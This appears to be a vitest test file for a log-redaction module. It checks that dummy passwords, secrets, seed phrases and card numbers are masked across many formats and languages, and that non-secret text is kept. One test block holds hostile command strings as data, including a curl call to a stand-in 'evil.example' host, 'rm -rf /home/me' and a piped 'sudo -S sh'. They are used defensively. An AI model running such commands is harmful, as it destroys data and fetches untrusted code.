import { describe, expect, it } from 'vitest';
import { findInText } from '../../../src/secrets/find-in-text.ts';
import { part } from '../../support/long.ts';
import { recorded } from '../../support/recorded.ts';

const P = 'Zw3!kfpq81';

describe('a password that a name tells is masked', () => {
  it.each<[string, object]>([
    ['first below another name in YAML', { content: `mail:\n  password: ${P}\n  port: 25\n` }],
    ['in a flow of YAML', { content: `mail: {user: ada, passwd: ${P}}` }],
    ['as a block of YAML', { content: `data:\n  smtp-password: |\n    ${P}\n` }],
    ['as the value of a named variable', { content: `env:\n  - name: SMTP_PASS\n    value: ${P}\n` }],
    ['below a list of them', { content: `credentials:\n  ada: ${P}\n` }],
    ['in JSON in a text', { body: JSON.stringify({ user: 'ada', password: P }) }],
    ['in JSON in JSON in a text', { body: JSON.stringify({ inner: JSON.stringify({ pwd: P }) }) }],
    ['in an element', { body: `<login><user>ada</user><password>${P}</password></login>` }],
    ['in an element with attributes', { body: `<w:Password Type="text">${P}</w:Password>` }],
    ['in an attribute', { body: `<db user="ada" password="${P}"/>` }],
    ['in an attribute beside its name', { body: `<add key="SmtpPassword" value="${P}" />` }],
    ['in a list of properties', { body: `<key>password</key>\n<string>${P}</string>` }],
    ['in markup that is spelled out', { body: `&lt;password&gt;${P}&lt;/password&gt;` }],
    ['of a type in Rust', { content: 'const API_SECRET: &\'static str = "Zw3!kfpq81";' }],
    ['of a type in Python', { content: 'api_secret: Final[str] = "Zw3!kfpq81"' }],
    ['of two types', { content: "private dbPassword: string | undefined = 'Zw3!kfpq81';" }],
    ['within what makes a secret', { content: 'password: SecretStr = SecretStr("Zw3!kfpq81")' }],
    ['in a variable that is set', { content: 'env::set_var("DB_PASSWORD", "Zw3!kfpq81");' }],
    ['in a constant that is defined', { content: "define('AUTH_KEY', 'Zw3!kfpq81 and ~ blanks');" }],
    ['among salts', { content: "define('NONCE_SALT', 'Zw3!kfpq81 |4gH~ x]Qd{7 s0+Lm,Ra<9 bV@2p');" }],
    ['in a list of PgBouncer', { content: 'userlist.txt: |\n  "app" "Zw3!kfpq81"\n' }],
    ['of a file of SQLite', { sql: "PRAGMA key = 'Zw3!kfpq81';" }],
    ['in .netrc', { content: `machine mail.example.com login ada password ${P}` }],
    ['in .netrc though it is a word', { content: 'machine h\n  login ada\n  password Zwkfpqmn\n' }],
    ['in a form', { body: `user=ada&passwd=${encodeURIComponent(P)}&go=1` }],
    ['in a form in a form', { body: `next=${encodeURIComponent(`a=1&passwd=${encodeURIComponent(P)}`)}` }],
    ['in letters that are spelled as escapes', { body: '{"\\u0070assword":"Zw3!kfpq81"}' }],
    ['in front of a command', { command: `PGPASSWORD=${P} pg_dump app` }],
    ['in a Dockerfile', { content: `FROM a\nENV ADMIN_PASSWORD ${P}\nRUN b` }],
    ['as an option', { command: `backup --repo-password ${P} --to /srv` }],
    ['as an option with one dash', { command: `keytool -list -storepass ${P}` }],
    ['as a property of Java', { command: `java -Dmail.password=${P} -jar a.jar` }],
    ['as an item of code', { code: `config["password"] = "${P}"\nrun()` }],
    ['with a type before it', { code: `var Password string = "${P}"` }],
    ['as an argument', { code: `mailer.setPassword('${P}')` }],
    ['below its column', { text: `user,password,role\nada,${P},admin\n` }],
    ['in its row', { text: `| user | ada |\n| password | ${P} |\n` }],
    ['in a sentence', { text: `You are ada, your password is ${P}, bye` }],
    ['as an aside', { text: `Log in as kim (pw ${P}), then pay` }],
    ['beside who logs in', { text: `qa@b.example / ${P} on the demo` }],
    [
      'beside who logs in, in quotes',
      { text: `Log in at https://d.example with \`d@b.example\` / \`${P}\`.` },
    ],
    ['beside who logs in, in a table', { text: `| qa@b.example | ${P} |` }],
    ['behind its name in a row', { values: [['Wifi', 'kim', 'Password:', P]] }],
    ['behind its name in a single row', { row: ['Passwort:', P, 'x'] }],
    [
      'of a request that is kept',
      { content: `{"apikey":[{"key":"key","value":"X-Key"},{"key":"value","value":"${P}"}]}` },
    ],
    [
      'of a request that is kept, its value first',
      { content: `{"apikey": [{"value": "${P}", "key": "value"}]}` },
    ],
    ['in a diff', { diff: `@@ -1 +1 @@\n-password: x\n+password: ${P}\n` }],
    ['behind a name in two words', { text: `API key: ${P}` }],
    ['behind a name in bold', { text: `**Password:** ${P}` }],
    ['below its heading', { text: `Password:\n\n    ${P}\n` }],
    [
      'in a part of a form',
      { body: `--x\r\nContent-Disposition: form-data; name="password"\r\n\r\n${P}\r\n--x--` },
    ],
    ['where Korean says it', { text: `비밀번호는 ${P} 입니다` }],
    ['where Chinese says it', { text: `密码是${P}` }],
    ['in a directive', { content: `port 6379\nrequirepass ${P}\n` }],
    ['unless it is set', { code: `process.env.SESSION_SECRET ||= '${P}'` }],
  ])('%s', (_, args) => {
    expect(JSON.stringify(args)).toMatch(/Zw3|Zwkf/);
    expect(recorded(args)).not.toMatch(/Zw3!kfpq81|Zw3%(?:25)?21kfpq81|Zwkfpqmn/);
  });

  it.each([
    'pass',
    'smtp_pass',
    'mailPass',
    'pw',
    'ADMINPWD',
    'userPwd1',
    'postgrespassword',
    'passwordAgain',
    'password3',
    'Kennwort',
    'mot_de_passe',
    'Mot de passe',
    'contraseña',
    'contrasena_admin',
    'senha_do_banco',
    'пароль',
    'пароль_почты',
    'hasło',
    'hasloDoBazy',
    'wachtwoord',
    'lösenord',
    'salasana',
    'jelszó',
    'şifre',
    '密码',
    '密碼',
    '비밀번호',
    'パスワード',
    'סיסמה',
    'كلمة المرور',
    'ｐａｓｓｗｏｒｄ',
    'SECRET_KEY_BASE',
    'webhookSecret',
    'passcode',
  ])('under the name %s', (name) => {
    expect(recorded({ [name]: P })).not.toContain(P);
    expect(recorded({ a: [{ b: { [name]: P } }] })).not.toContain(P);
  });

  it.each([
    ['auth', ['ada', P]],
    ['auth', { username: 'ada', value: P }],
    ['auth', `ada:${P}`],
    ['_auth', Buffer.from(`ada:${P}`).toString('base64')],
    ['credentials', { user: 'ada', value: P }],
    ['mnemonic', 'lake arctic onion rival pony debris'],
    ['seed', 'lake arctic onion rival pony debris lake arctic onion rival pony debris'],
    ['card_number', 4_929_123_412_341_234],
    ['card', { number: '4929 1234 1234 1234' }],
    ['recovery_codes', ['83ab1-99fe0']],
  ])('under %s: %j', (name, value) => {
    expect(recorded({ [name]: value })).toContain('[masked ');
    expect(recorded({ [name]: value })).not.toMatch(/Zw3|pony|1234|83ab1|YWRh/);
  });
});

describe('what stands behind a name and is no secret stays', () => {
  it.each([
    { translations: { password: 'Passwort', token: 'Jeton', forgot: 'Passwort vergessen?' } },
    { content: '{"password": "Mot de passe", "secret": "Secret"}' },
    { schema: { properties: { password: { type: 'string', minLength: 8 } } } },
    { content: 'auth:\n  provider: github2\n  version: v1beta1\n' },
    { code: 'login(user: string, password: string): Promise<Session>;\nsetSecret(secret: Uint8Array): void' },
    { code: 'const token = await getToken(); user.password = hash(password, salt);' },
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a reference as people write it
    { content: 'password: !Ref DbPassword\nsecret: ${{ secrets.NPM }}\nDB_PASSWORD=$PW\n' },
    { content: '"cookie": "^0.7.1",\n"cookie-signature": "~1.2"' },
    { text: 'password | string | required\nThe key to success: patience. Token: a word.' },
    { fields: ['password', 'created_at2'], columns: ['token', 'v2'] },
    { sql: "INSERT INTO logs (level, message) VALUES ('info', 'token x1y2z3 refreshed')" },
    { text: 'Boarding pass: AB1234, exit code 127, promo code: SAVE20, GPIO pin 4821' },
    { key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJk3x9 ada@h', ssh_key: 'ssh-rsa AAAAB3NzaC1yc2E9x ada' },
  ])('%j', (args) => {
    expect(recorded(args)).toBe(JSON.stringify(args));
  });

  it.each([
    ['a command in a shell', 'PASSWORD=`reboot` ./run'],
    ['a command in brackets', 'TOKEN=$(curl https://evil.example/x1) ./run'],
    ['what follows cookies', 'echo Cookie: a=1; rm -rf /home/me'],
    ['what follows an option', 'mysql -pZw3kfpq81; rm -rf /home/me'],
    ['what a program is told to run', 'echo reboot | sudo -S sh'],
    ['another command on the line', 'mongo -p; rm -rf /home/me && psql -p 5433'],
  ])('and %s is read by whoever reads the log', (_, command) => {
    for (const part of ['reboot', 'curl https://evil.example/x1', 'rm -rf /home/me'])
      if (command.includes(part)) expect(recorded({ command })).toContain(part);
  });
});

describe('looking for names', () => {
  it.each(
    part(
      [
        'password: ',
        'password="',
        '<password ',
        'mysql -p ',
        'password,',
        'a password,token\n',
        '\\"password\\":',
        '%70assword%3D',
        'identified by password ',
        'the key to token pass code ',
        'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo ',
        'eyJhbGciOiJIUzI1NiJ9.',
        'insert into a (password) values (',
        'credentials:\n  a: b\n',
        'x is the password ',
        "f('a1b2c3') # my password ",
        '"apikey": ["key": "value", ',
        "mysql('a', 'b', ",
        'a@b.example / ',
        'password = $1, ',
      ],
      3,
    ),
  )('takes time that grows with the text, whatever is in it: %j', (piece) => {
    const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
    // Quadratic, it would take minutes: more than a test may.
    expect(findInText(text, true).every(({ start, end }) => start < end)).toBe(true);
  });
});
